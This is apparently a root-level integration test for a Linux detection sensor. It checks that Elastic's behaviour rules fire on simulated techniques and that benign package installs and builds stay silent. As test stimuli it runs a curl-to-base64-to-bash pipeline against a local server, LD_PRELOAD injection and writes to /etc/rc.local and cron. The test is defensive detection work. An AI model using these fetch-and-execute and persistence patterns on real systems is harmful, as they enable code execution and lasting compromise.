#!/bin/bash
# test_live_context.sh - issue 15 on the real kernel: Elastic's Linux process
# context and the launch modality, with the pack and Elastic's Linux
# behaviour rules loaded in the sensor:
#   - `curl | base64 -d | bash` in an interactive session (a pty from
#     script(1)) fires Elastic's "Decoded Payload Piped to Interpreter";
#   - `LD_PRELOAD=/tmp/x.so ls` fires "Shared Object Injection via Process
#     Environment Variable";
#   - a shell script writing /etc/rc.local with tee and /etc/cron.d/x with cp
#     alerts with the launch modality shell;
#   - `apt-get install --reinstall` of a package whose maintainer scripts
#     write cron files with tee and cp, a build and a Python test run raise
#     nothing;
#   - a planted AWS_SECRET_ACCESS_KEY is redacted; --output, the baseline
#     database and the spool are owner-only under umask 022.
# Needs root; exits 77 (skipped) otherwise. LIVE_CAPTURE=DIR keeps what the
# sensor wrote as DIR/context.ndjson (the field coverage test reads it).
. "$(dirname "$0")/lib.sh"
live_require
RULES_JSONL=$SHARED/corpora/elastic-rules/behavior_rules.jsonl
if [ ! -f "$RULES_JSONL" ]; then
    echo "SKIP: no corpus at $RULES_JSONL (Elastic's Linux rules are what this tests)"
    exit 77
fi
for t in curl script gcc jq apt-get dpkg-deb python3; do
    command -v $t >/dev/null || {
        echo "SKIP: $t is not installed"
        exit 77
    }
done
umask 022
CRON_X=/etc/cron.d/modus-ctx-$$
CRON_DEB1=/etc/cron.d/modus-ctx-deb1-$$
CRON_DEB2=/etc/cron.d/modus-ctx-deb2-$$
PKG=modus-ctx-test-$$
SO=/tmp/modus-ctx-$$.so
RC_SAVED=
[ -e /etc/rc.local ] && RC_SAVED=$TMP/rc.local.saved && cp -p /etc/rc.local "$RC_SAVED"
SENSOR= HTTPD=
cleanup() {
    [ -n "$SENSOR" ] && kill "$SENSOR" 2>/dev/null
    [ -n "$HTTPD" ] && kill "$HTTPD" 2>/dev/null
    if [ -n "$RC_SAVED" ]; then cp -p "$RC_SAVED" /etc/rc.local; else rm -f /etc/rc.local; fi
    rm -f "$CRON_X" "$CRON_DEB1" "$CRON_DEB2" "$SO"
    dpkg -s "$PKG" >/dev/null 2>&1 && dpkg_locked --purge "$PKG"
    rm -rf "$TMP"
}
trap cleanup EXIT
wait_ready() { # ERRFILE PID
    for _ in $(seq 150); do
        grep -q "ready" "$1" 2>/dev/null && return 0
        kill -0 "$2" 2>/dev/null || return 1
        sleep 0.2
    done
    return 1
}

# ---- what runs before the sensor starts ------------------------------------------
jq -c 'select(.os | index("linux"))' "$RULES_JSONL" >"$TMP/linux.jsonl"
nlinux=$(wc -l <"$TMP/linux.jsonl")
bash "$(dirname "$0")/../cli/rules_to_toml.sh" "$TMP/linux.jsonl" "$TMP/elastic-linux" 2>/dev/null
printf 'int modus_ctx_test;\n' >"$TMP/x.c"
gcc -shared -fPIC -o "$SO" "$TMP/x.c" || exit 1
# the payload a local HTTP server hands out: base64 of a shell command
mkdir -p "$TMP/www" "$TMP/pipe"
printf 'echo modus-decoded-%s\n' $$ | base64 >"$TMP/www/p.b64"
python3 -m http.server 0 --bind 127.0.0.1 --directory "$TMP/www" >"$TMP/httpd.log" 2>&1 &
HTTPD=$!
PORT=
for _ in $(seq 50); do
    PORT=$(grep -Eo 'port [0-9]+' "$TMP/httpd.log" | grep -Eo '[0-9]+' | head -1)
    [ -n "$PORT" ] && break
    sleep 0.1
done
check "a local HTTP server is up on 127.0.0.1" [ -n "$PORT" ]
# a package whose maintainer scripts write cron files with tee and cp
mkdir -p "$TMP/deb/DEBIAN"
printf 'Package: %s\nVersion: 1.0\nArchitecture: all\nMaintainer: modus tests <tests@modus.invalid>\nDescription: modus live context test\n' "$PKG" >"$TMP/deb/DEBIAN/control"
printf '#!/bin/sh\nprintf "# modus benign\\n" | tee %s >/dev/null\ncp %s %s\n' "$CRON_DEB1" "$CRON_DEB1" "$CRON_DEB2" >"$TMP/deb/DEBIAN/postinst"
printf '#!/bin/sh\nrm -f %s %s\n' "$CRON_DEB1" "$CRON_DEB2" >"$TMP/deb/DEBIAN/postrm"
chmod 755 "$TMP/deb/DEBIAN/postinst" "$TMP/deb/DEBIAN/postrm"
dpkg-deb --build "$TMP/deb" "$TMP/$PKG.deb" >/dev/null
dpkg_locked -i "$TMP/$PKG.deb" # installed before, reinstalled under the sensor
# the persistence script: native tools that a shell script runs
printf '#!/bin/bash\nprintf "#!/bin/sh\\nexit 0\\n" | tee /etc/rc.local >/dev/null\nprintf "# modus\\n" >"%s/cronx"\ncp "%s/cronx" %s\n' "$TMP" "$TMP" "$CRON_X" >"$TMP/persist.sh"
chmod 755 "$TMP/persist.sh"

# ---- the sensor ---------------------------------------------------------------------
OUT=$TMP/context.ndjson
# the allow-list through --config, as a systemd unit's /etc/modus/live.conf would
printf 'env-vars = LD_PRELOAD, LD_LIBRARY_PATH, AWS_SECRET_ACCESS_KEY, MODUS_CTX_PLAIN\nall-events\n' >"$TMP/live.conf"
"$MODUS" live --config "$TMP/live.conf" --rules "$SRC/rules" --rules "$TMP/elastic-linux" \
    --output "$OUT" --stats-interval 0 2>"$TMP/err" &
SENSOR=$!
if ! wait_ready "$TMP/err" $SENSOR; then
    echo "FAIL: the sensor did not start:" >&2
    cat "$TMP/err" >&2
    exit 1
fi
npack=$(ls "$SRC"/rules/*.toml | wc -l)
expect_eq "the pack and all of Elastic's $nlinux Linux rules load" \
    "$(grep -Eo '; [0-9]+ rules' "$TMP/err" | grep -Eo '[0-9]+')" "$((nlinux + npack))"

# 1. decoded payload piped to an interpreter, in an interactive session
# (three times, each in its own directory: the rule is a sequence, base64's
# exec then the shell's, and the two start at once; see the check below)
for i in 1 2 3; do
    mkdir -p "$TMP/pipe$i"
    (cd "$TMP/pipe$i" && script -qec "curl -s http://127.0.0.1:$PORT/p.b64 | base64 -d | bash" /dev/null) >"$TMP/pipe.out" 2>&1
    check "pipeline $i ran the decoded payload" grep -q "modus-decoded-$$" "$TMP/pipe.out"
done
# 2. LD_PRELOAD from /tmp
LD_PRELOAD=$SO ls / >/dev/null &
PID_PRELOAD=$!
wait $PID_PRELOAD
# 3. a secret and a plain value in allow-listed variables
AWS_SECRET_ACCESS_KEY=modus-planted-secret-$$ MODUS_CTX_PLAIN=visible-$$ /bin/true &
PID_SECRET=$!
wait $PID_SECRET
# 3b. credentials and sessions: a process that drops to nobody, a new session
python3 -c 'import os; os.memfd_create("modus-ctx", os.MFD_CLOEXEC); os.setgid(65534); os.setuid(65534); os.setsid()' &
PID_SETUID=$!
wait $PID_SETUID
# 4. persistence written by tee and cp that a shell script ran
"$TMP/persist.sh" &
PID_PERSIST=$!
wait $PID_PERSIST
# 5. benign: the package reinstalled with apt-get, a build, a Python test run
(
    for _ in $(seq 120); do
        apt-get install --reinstall -y -q -o DPkg::Lock::Timeout=120 "$TMP/$PKG.deb" >"$TMP/apt.log" 2>&1 && break
        grep -q "lock" "$TMP/apt.log" || break
        sleep 1
    done
    mkdir -p "$TMP/build"
    for i in 1 2 3 4; do printf 'int f%d(int x) { return x * %d; }\n' $i $i >"$TMP/build/f$i.c"; done
    printf 'all: f1.o f2.o f3.o f4.o\n%%.o: %%.c\n\tgcc -O2 -c $< -o $@\n' >"$TMP/build/Makefile"
    make -s -j2 -C "$TMP/build" >/dev/null
    mkdir -p "$TMP/pyt"
    printf 'import tempfile, unittest\nclass T(unittest.TestCase):\n    def test_file(self):\n        with tempfile.NamedTemporaryFile("w") as f:\n            f.write("x")\n        self.assertTrue(True)\n' >"$TMP/pyt/test_x.py"
    cd "$TMP/pyt" && python3 -m unittest -q 2>/dev/null
) &
PID_BENIGN=$!
wait $PID_BENIGN
check "apt-get reinstalled the package (its maintainer script ran again)" grep -q "Setting up $PKG" "$TMP/apt.log"
check "the maintainer script wrote its cron files" test -f "$CRON_DEB2"

sleep 1.5
kill -INT "$SENSOR"
wait "$SENSOR"
expect_eq "the sensor exits 0 on SIGINT" "$?" 0
SENSOR=
grep "stopped after" "$TMP/err"
[ -n "${LIVE_CAPTURE:-}" ] && mkdir -p "$LIVE_CAPTURE" && cp "$OUT" "$LIVE_CAPTURE/context.ndjson"
expect_eq "--output is created owner-only (0600) under umask 022" "$(stat -c %a "$OUT")" 600

has() { [ -n "$(jq -c "select($1)" "$OUT" | head -1)" ]; }
alert() { jq -c --arg n "$1" 'select(.event.kind == "alert" and .rule.name == $n)' "$OUT"; }

# ---- 1: the pipeline ---------------------------------------------------------------
b64=$(jq -c --arg d "$TMP/pipe1" 'select(.event.kind == "event" and .event.action == "exec" and .process.name == "base64" and .process.working_directory == $d)' "$OUT" | head -1)
check "base64's exec carries process.working_directory" [ -n "$b64" ]
expect_eq "base64 in the pty session is interactive" "$(jq -r .process.interactive <<<"$b64")" true
check "base64 names its controlling tty (char_device major/minor)" \
    [ "$(jq -r '.process.tty.char_device.major > 0' <<<"$b64")" = true ]
check "base64's session leader is the session script(1) made (not base64)" \
    [ "$(jq -r '.process.session_leader.pid != null and .process.session_leader.pid != .process.pid' <<<"$b64")" = true ]
check "base64's group leader is named" [ "$(jq -r '.process.group_leader.pid != null and .process.group_leader.entity_id != null' <<<"$b64")" = true ]
check "base64 has an entry leader with its type" [ "$(jq -r '.process.entry_leader.entry_meta.type != null and .process.entry_leader.entity_id != null' <<<"$b64")" = true ]
# The rule is a sequence: base64's exec, then the shell's, within 1 s. The
# pipeline starts both at once, so the shell's exec may come first (then no
# sensor, Elastic's included, sees the sequence): every run whose events came
# in the rule's order must alert, and at least one run must have.
ordered=0
for i in 1 2 3; do
    first=$(jq -r --arg d "$TMP/pipe$i" 'select(.event.kind == "event" and .event.action == "exec" and .process.working_directory == $d and (.process.name == "base64" or (.process.name == "bash" and .process.args_count == 1))) | .process.name' "$OUT" | head -1)
    [ "$first" = base64 ] || {
        echo "note: pipeline $i: the shell's exec came before base64's (first: '$first')"
        continue
    }
    ordered=$((ordered + 1))
    n=$(alert "Decoded Payload Piped to Interpreter" | jq -c --arg d "$TMP/pipe$i" 'select(.events[0].process.working_directory == $d and .events[0].process.name == "base64" and .events[1].process.name == "bash")' | wc -l)
    check "pipeline $i: Elastic's \"Decoded Payload Piped to Interpreter\" fires ($n)" [ "$n" -ge 1 ]
done
check "at least one pipeline's execs came in the rule's order ($ordered of 3)" [ "$ordered" -ge 1 ]

# ---- 2: LD_PRELOAD -------------------------------------------------------------------
e=$(jq -c --argjson p $PID_PRELOAD 'select(.event.kind == "event" and .event.action == "exec" and .process.pid == $p)' "$OUT" | head -1)
expect_eq "ls's exec carries LD_PRELOAD in process.env_vars" \
    "$(jq -r '.process.env_vars | map(select(startswith("LD_PRELOAD="))) | .[0]' <<<"$e")" "LD_PRELOAD=$SO"
n=$(alert "Shared Object Injection via Process Environment Variable" | jq -c --argjson p $PID_PRELOAD 'select(.process.pid == $p)' | wc -l)
check "Elastic's \"Shared Object Injection via Process Environment Variable\" fires on LD_PRELOAD=$SO ls ($n)" [ "$n" -ge 1 ]

# ---- 3: redaction ----------------------------------------------------------------------
e=$(jq -c --argjson p $PID_SECRET 'select(.event.kind == "event" and .event.action == "exec" and .process.pid == $p)' "$OUT" | head -1)
check "the secret's name is kept, its value redacted" \
    [ "$(jq -r '.process.env_vars | index("AWS_SECRET_ACCESS_KEY=<redacted>") != null' <<<"$e")" = true ]
check "an allow-listed plain value is kept as it is" \
    [ "$(jq -r --arg v "MODUS_CTX_PLAIN=visible-$$" '.process.env_vars | index($v) != null' <<<"$e")" = true ]
check "the planted secret appears nowhere in what the sensor wrote" [ "$(grep -c "modus-planted-secret-$$" "$OUT")" = 0 ]
check "variables off the allow-list are not kept (PATH)" [ "$(jq -r '.process.env_vars | map(select(startswith("PATH="))) | length' <<<"$e")" = 0 ]

# ---- 3b: credentials ---------------------------------------------------------------------
e=$(jq -c --argjson p $PID_SETUID 'select(.event.kind == "event" and .event.action == "uid_change" and .process.pid == $p)' "$OUT" | head -1)
expect_eq "setuid(65534) is a uid_change event: user.id" "$(jq -r .user.id <<<"$e")" 65534
expect_eq "uid_change: process.user.id" "$(jq -r .process.user.id <<<"$e")" 65534
expect_eq "uid_change: process.user.name" "$(jq -r .process.user.name <<<"$e")" "$(getent passwd 65534 | cut -d: -f1)"
check "setgid(65534) is a gid_change event" has '.event.action == "gid_change" and .process.pid == '$PID_SETUID' and .process.group.id == "65534"'
e=$(jq -c --argjson p $PID_SETUID 'select(.event.kind == "event" and .event.action == "session_id_change" and .process.pid == $p)' "$OUT" | head -1)
expect_eq "setsid() is a session_id_change: the process leads its session" "$(jq -r .process.session_leader.pid <<<"$e")" $PID_SETUID
expect_eq "session_id_change: and its group" "$(jq -r .process.group_leader.pid <<<"$e")" $PID_SETUID
expect_eq "session_id_change: no terminal any more" "$(jq -r .process.interactive <<<"$e")" false
e=$(jq -c --argjson p $PID_SETUID 'select(.event.kind == "event" and .event.action == "memfd_create" and .process.pid == $p)' "$OUT" | head -1)
expect_eq "memfd_create: process.Ext.memfd.name, as Elastic Defend writes it" "$(jq -r .process.Ext.memfd.name <<<"$e")" modus-ctx
expect_eq "memfd_create: its flags" "$(jq -r .process.Ext.memfd.flag_cloexec <<<"$e"),$(jq -r .process.Ext.memfd.flag_allow_seal <<<"$e")" true,false
check "events name the host by its machine id (host.id)" has '.host.id == "'"$(cat /etc/machine-id)"'"'

# ---- 4: persistence by tools a script launched ---------------------------------------------
rule="Linux persistence file written by a tool a script launched"
for f in /etc/rc.local "$CRON_X"; do
    a=$(alert "$rule" | jq -c --arg f "$f" 'select(.events[0].file.path == $f)' | head -1)
    check "$f written by $(jq -r .events[0].process.name <<<"$a"): the pack's rule alerts" [ -n "$a" ]
    expect_eq "$f: the writer's own modality is native" "$(jq -r .modality.name <<<"$a")" native
    expect_eq "$f: the launch modality is shell" "$(jq -r .events[0].process.parent.modality.name <<<"$a")" shell
done
expect_eq "rc.local was written by tee" "$(alert "$rule" | jq -r 'select(.events[0].file.path == "/etc/rc.local") | .events[0].process.name' | head -1)" tee
expect_eq "the cron file was written by cp" "$(alert "$rule" | jq -r --arg f "$CRON_X" 'select(.events[0].file.path == $f) | .events[0].process.name' | head -1)" cp
check "every event of tee carries the launch modality (its end too)" \
    has '.event.action == "end" and .process.name == "tee" and .process.parent.modality.name == "shell"'

# ---- 5: benign workloads raise nothing ---------------------------------------------------------
desc() { echo "$1 $(live_descendants "$OUT" "$1")"; } # PID -> PID and its descendants
benign=$(desc $PID_BENIGN)
check "the benign workloads were followed (apt-get, dpkg, the maintainer script)" \
    [ "$(jq -r --arg c "$CRON_DEB2" 'select(.event.kind == "event" and .file.path == $c and .event.action != "deletion") | .process.name' "$OUT" | head -1)" = cp ]
stray=$(jq -r 'select(.event.kind == "alert") | "\(.process.pid) \(.process.name): \(.rule.name)"' "$OUT" |
    while read -r pid rest; do case " $benign " in *" $pid "*) echo "$pid $rest" ;; esac; done)
expect_eq "no alert from apt-get --reinstall, the build or the Python test run" "$stray" ""

# ---- private files: the baseline database and the spool -------------------------------------------
"$MODUS" live --duration 3 --baseline "$TMP/live.db" --learn 1 --publish nats://127.0.0.1:1 \
    --spool "$TMP/spool" --all-events --output "$TMP/o2.ndjson" --stats-interval 0 2>"$TMP/err2"
check "the short sensor run started" grep -q "ready" "$TMP/err2"
expect_eq "the baseline database is 0600" "$(stat -c %a "$TMP/live.db")" 600
expect_eq "the spool directory is 0700" "$(stat -c %a "$TMP/spool")" 700
nsp=$(find "$TMP/spool" -type f | wc -l)
check "the spool holds files ($nsp)" [ "$nsp" -gt 0 ]
expect_eq "every spool file is 0600" "$(find "$TMP/spool" -type f ! -perm 600 | wc -l)" 0
finish
